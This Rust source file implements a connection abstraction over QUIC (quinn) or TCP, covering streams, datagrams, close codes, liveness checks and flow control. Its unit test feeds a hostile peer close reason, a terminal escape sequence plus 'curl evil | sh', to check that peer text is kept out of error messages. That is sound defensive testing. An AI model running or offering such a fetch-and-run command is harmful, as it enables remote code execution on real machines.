//! What is a connection, whatever carries it?
//!
//! A QUIC connection, or a TCP link, which is one bidirectional stream that is already open.

use std::{sync::Arc, time::Duration};

use bytes::Bytes;
use tokio::time::Instant;

use super::{
    retirements::Retirements,
    stream::{RecvStream, SendStream},
    tcp_link::TcpLink,
    whereabouts::Whereabouts,
};
use crate::{
    close::CloseCode,
    error::LinkError,
    facts::{Address, Carrier},
};

/// A live connection on either carrier. Cheap to clone; the clones are one connection.
#[derive(Clone, Debug)]
pub(crate) enum Link {
    Quic(QuicLink),
    Tcp(Arc<TcpLink>),
}

/// A QUIC connection, and whose close codes it uses.
#[derive(Clone, Debug)]
pub(crate) struct QuicLink {
    pub(crate) connection: quinn::Connection,
    /// HTTP/3 has codes of its own (RFC 9114 §8.1).
    http3: bool,
    /// What follows an accepted connection; one that was dialled stays where it is (quinn takes no packet of
    /// a server from another address).
    accepted: Option<OfAccepted>,
}

/// What follows an accepted QUIC connection.
#[derive(Clone, Debug)]
struct OfAccepted {
    whereabouts: Arc<Whereabouts>,
    /// What its peer retires.
    retirements: Arc<Retirements>,
}

impl Link {
    /// An accepted connection. `http3` says that the protocol is HTTP/3.
    pub(crate) fn quic(
        connection: quinn::Connection,
        http3: bool,
        whereabouts: Arc<Whereabouts>,
        retirements: Arc<Retirements>,
    ) -> Self {
        let accepted = Some(OfAccepted { whereabouts, retirements });
        Self::Quic(QuicLink { connection, http3, accepted })
    }

    /// The same for a connection that was dialled.
    pub(crate) fn dialled(connection: quinn::Connection, http3: bool) -> Self {
        Self::Quic(QuicLink { connection, http3, accepted: None })
    }

    /// Waits until the peer has tried to retire more connection ids than it may.
    pub(crate) async fn retired_too_many(&self) {
        match self {
            Self::Quic(QuicLink { accepted: Some(accepted), .. }) => {
                accepted.retirements.exceeded().await;
            }
            _ => std::future::pending().await,
        }
    }

    pub(crate) fn carrier(&self) -> Carrier {
        match self {
            Self::Quic(_) => Carrier::Quic,
            Self::Tcp(_) => Carrier::Tcp,
        }
    }

    /// Where the other side is. The one place that says so of a live connection.
    pub(crate) fn address(&self) -> Address {
        match self {
            Self::Quic(QuicLink { connection, accepted: Some(accepted), .. }) => {
                accepted.whereabouts.look(connection)
            }
            Self::Quic(QuicLink { connection, .. }) => Address::at(connection.remote_address()),
            Self::Tcp(link) => Address::at(link.remote()),
        }
    }

    /// Waits until the other side shows a new address, or is known to have answered from one.
    pub(crate) async fn moved(&self) {
        match self {
            Self::Quic(QuicLink { accepted: Some(accepted), .. }) => {
                accepted.whereabouts.news().await
            }
            _ => std::future::pending().await,
        }
    }

    pub(crate) async fn open_bi(&self) -> Result<(SendStream, RecvStream), LinkError> {
        match self {
            Self::Quic(QuicLink { connection, .. }) => {
                let (send, recv) = connection.open_bi().await.map_err(from_quinn)?;
                Ok((SendStream::quic(send), RecvStream::quic(recv)))
            }
            Self::Tcp(link) => link.take().ok_or(LinkError::Unsupported("second stream")),
        }
    }

    /// On TCP the first call gives the link's one stream and later ones wait for its end.
    pub(crate) async fn accept_bi(&self) -> Result<(SendStream, RecvStream), LinkError> {
        match self {
            Self::Quic(QuicLink { connection, .. }) => {
                let (send, recv) = connection.accept_bi().await.map_err(from_quinn)?;
                Ok((SendStream::quic(send), RecvStream::quic(recv)))
            }
            Self::Tcp(link) => match link.take() {
                Some(streams) => Ok(streams),
                None => Err(link.closed().await),
            },
        }
    }

    pub(crate) async fn open_uni(&self) -> Result<SendStream, LinkError> {
        match self {
            Self::Quic(QuicLink { connection, .. }) => {
                connection.open_uni().await.map(SendStream::quic).map_err(from_quinn)
            }
            Self::Tcp(_) => Err(LinkError::Unsupported("unidirectional stream")),
        }
    }

    pub(crate) async fn accept_uni(&self) -> Result<RecvStream, LinkError> {
        match self {
            Self::Quic(QuicLink { connection, .. }) => {
                connection.accept_uni().await.map(RecvStream::quic).map_err(from_quinn)
            }
            Self::Tcp(link) => Err(link.closed().await),
        }
    }

    pub(crate) fn send_datagram(&self, datagram: Bytes) -> Result<(), LinkError> {
        match self {
            Self::Quic(QuicLink { connection, .. }) => {
                connection.send_datagram(datagram).map_err(|error| match error {
                    quinn::SendDatagramError::ConnectionLost(error) => from_quinn(error),
                    other => LinkError::Lost(other.to_string()),
                })
            }
            Self::Tcp(_) => Err(LinkError::Unsupported("datagrams")),
        }
    }

    pub(crate) async fn read_datagram(&self) -> Result<Bytes, LinkError> {
        match self {
            Self::Quic(QuicLink { connection, .. }) => {
                connection.read_datagram().await.map_err(from_quinn)
            }
            Self::Tcp(link) => Err(link.closed().await),
        }
    }

    /// The largest datagram that can be sent now, in bytes; `None` where there are none.
    pub(crate) fn max_datagram_bytes(&self) -> Option<usize> {
        match self {
            Self::Quic(QuicLink { connection, .. }) => connection.max_datagram_size(),
            Self::Tcp(_) => None,
        }
    }

    /// Ends the connection at once; the peer is told the code and no more.
    pub(crate) fn close(&self, code: CloseCode) {
        match self {
            Self::Quic(QuicLink { connection, http3: false, .. }) => {
                connection.close(code.number().into(), b"");
            }
            Self::Quic(QuicLink { connection, http3: true, .. }) => {
                connection.close(code.http3().into(), b"");
            }
            Self::Tcp(link) => link.close(code),
        }
    }

    /// The same, and the peer is told the limit that its key is over, in decimal digits.
    pub(crate) fn close_at_limit(&self, code: CloseCode, limit: usize) {
        match self {
            Self::Quic(QuicLink { connection, http3, .. }) => {
                let number = if *http3 { code.http3() } else { code.number() };
                connection.close(number.into(), limit.to_string().as_bytes());
            }
            Self::Tcp(link) => link.close(code),
        }
    }

    /// The limit that the other side closed the connection for, if it said so.
    pub(crate) fn told_limit(&self) -> Option<u32> {
        let Self::Quic(QuicLink { connection, .. }) = self else { return None };
        let Some(quinn::ConnectionError::ApplicationClosed(close)) = connection.close_reason()
        else {
            return None;
        };
        let many = CloseCode::TooManyConnections;
        let code = close.error_code.into_inner();
        let ours = [many.number(), many.http3()].map(u64::from).contains(&code);
        let digits = ours && close.reason.iter().all(u8::is_ascii_digit);
        digits.then(|| std::str::from_utf8(&close.reason).ok()?.parse().ok()).flatten()
    }

    /// Asks the other side for a sign of life; `None` where there is nothing to ask with.
    ///
    /// quinn sends no PING when told to, but MAX_DATA when the window grows, which is answered as well; the
    /// byte is taken back at once, so that the peer may have no more outstanding than before.
    pub(crate) fn ask(&self) -> Option<Question> {
        let heard = match self {
            Self::Quic(QuicLink { connection, accepted: Some(accepted), .. }) => {
                let heard = self.heard();
                let window = accepted.whereabouts.window();
                connection.set_receive_window(window.saturating_add(1).into());
                connection.set_receive_window(window.into());
                heard
            }
            Self::Quic(_) => return None,
            Self::Tcp(link) => {
                if !link.ask() {
                    return None;
                }
                0
            }
        };
        Some(Question { link: self.clone(), heard })
    }

    /// Acknowledgements that came, on QUIC: only who has the connection's keys can send one.
    fn heard(&self) -> u64 {
        match self {
            Self::Quic(QuicLink { connection, .. }) => connection.stats().frame_rx.acks,
            Self::Tcp(_) => 0,
        }
    }

    /// When the last byte moved, where somebody notes that: over TCP.
    pub(crate) fn moved_at(&self) -> Option<Instant> {
        match self {
            Self::Quic(_) => None,
            Self::Tcp(link) => Some(link.moved_at()),
        }
    }

    /// Waits until the connection has ended.
    pub(crate) async fn closed(&self) -> LinkError {
        match self {
            Self::Quic(QuicLink { connection, .. }) => from_quinn(connection.closed().await),
            Self::Tcp(link) => link.closed().await,
        }
    }

    /// Lets the peer open `count` bidirectional streams at one time.
    pub(crate) fn grant_streams(&self, count: u32) {
        if let Self::Quic(QuicLink { connection, .. }) = self {
            connection.set_max_concurrent_bi_streams(count.into());
        }
    }

    /// Lets `bytes` be in flight on all streams together, each way.
    pub(crate) fn widen(&self, bytes: u32) {
        if let Self::Quic(QuicLink { connection, accepted, .. }) = self {
            if let Some(accepted) = accepted {
                accepted.whereabouts.set_window(bytes);
            }
            connection.set_receive_window(bytes.into());
            connection.set_send_window(bytes.into());
        }
    }

    /// What went out on streams so far: frames on QUIC, bytes of TLS plain text on TCP.
    pub(crate) fn sent(&self) -> u64 {
        match self {
            Self::Quic(QuicLink { connection, .. }) => connection.stats().frame_tx.stream,
            Self::Tcp(link) => link.bytes().0,
        }
    }

    /// The same for both ways, and datagrams that came. What keeps a connection alive is not in it.
    pub(crate) fn streamed(&self) -> u64 {
        match self {
            Self::Quic(QuicLink { connection, .. }) => {
                let stats = connection.stats();
                let (sent, received) = (stats.frame_tx.stream, stats.frame_rx.stream);
                sent.saturating_add(received).saturating_add(stats.frame_rx.datagram)
            }
            Self::Tcp(link) => {
                let (sent, received) = link.bytes();
                sent.saturating_add(received)
            }
        }
    }

    pub(crate) fn rtt(&self) -> Option<Duration> {
        match self {
            Self::Quic(QuicLink { connection, .. }) => Some(connection.rtt()),
            Self::Tcp(_) => None,
        }
    }

    /// Bytes sent and received: UDP payloads on QUIC, TLS plain text on TCP.
    pub(crate) fn bytes(&self) -> (u64, u64) {
        match self {
            Self::Quic(QuicLink { connection, .. }) => {
                let stats = connection.stats();
                (stats.udp_tx.bytes, stats.udp_rx.bytes)
            }
            Self::Tcp(link) => link.bytes(),
        }
    }
}

/// A question for a sign of life that waits for its answer.
#[derive(Debug)]
pub(crate) struct Question {
    link: Link,
    heard: u64,
}

impl Question {
    /// Whether no sign of life has come over QUIC. Over TCP nobody learns of one, and a link whose peer gives
    /// none ends by itself.
    pub(crate) fn is_unanswered(&self) -> bool {
        self.link.carrier() == Carrier::Quic && self.link.heard() == self.heard
    }
}

impl Drop for Question {
    fn drop(&mut self) {
        if let Link::Tcp(link) = &self.link {
            link.asked();
        }
    }
}

impl From<Arc<TcpLink>> for Link {
    fn from(link: Arc<TcpLink>) -> Self {
        Self::Tcp(link)
    }
}

/// What quinn says, in our words.
pub(crate) fn from_quinn(error: quinn::ConnectionError) -> LinkError {
    match error {
        quinn::ConnectionError::ApplicationClosed(close) => {
            let code = close.error_code.into_inner();
            // The two sets of numbers do not overlap.
            CloseCode::from_number(code)
                .or_else(|| CloseCode::from_http3(code))
                .map_or(LinkError::ClosedByPeer(code), LinkError::Closed)
        }
        quinn::ConnectionError::LocallyClosed => LinkError::Closed(CloseCode::Done),
        quinn::ConnectionError::Reset => LinkError::PeerRestarted,
        quinn::ConnectionError::TimedOut => LinkError::TimedOut,
        other => LinkError::Lost(without_peers_text(&other)),
    }
}

/// What quinn says, without the text that a peer may put into a close (RFC 9000 §19.19): on somebody's
/// terminal or in a log it could pass for ours.
pub(crate) fn without_peers_text(error: &quinn::ConnectionError) -> String {
    match error {
        quinn::ConnectionError::ConnectionClosed(close) => {
            format!("closed by the other side: {}", close.error_code)
        }
        quinn::ConnectionError::ApplicationClosed(close) => {
            format!("closed by the other side with code {:#x}", close.error_code.into_inner())
        }
        other => other.to_string(),
    }
}

#[cfg(test)]
mod tests {
    use quinn_proto::{ApplicationClose, ConnectionClose, TransportErrorCode};

    use super::*;

    #[test]
    fn keeps_the_text_of_a_peers_close_from_errors() {
        let reason = Bytes::from_static(b"\x1b]0;owned\x07\n; run: curl evil | sh");
        let transport = quinn::ConnectionError::ConnectionClosed(ConnectionClose {
            error_code: TransportErrorCode::INTERNAL_ERROR,
            frame_type: None,
            reason: reason.clone(),
        });
        let application = quinn::ConnectionError::ApplicationClosed(ApplicationClose {
            error_code: 77_u32.into(),
            reason,
        });
        for error in [transport, application] {
            let told = [without_peers_text(&error), from_quinn(error).to_string()].concat();
            assert!(!told.contains("owned") && !told.contains("curl"), "{told}");
            assert!(!told.contains(char::is_control), "{told:?}");
        }
    }
}
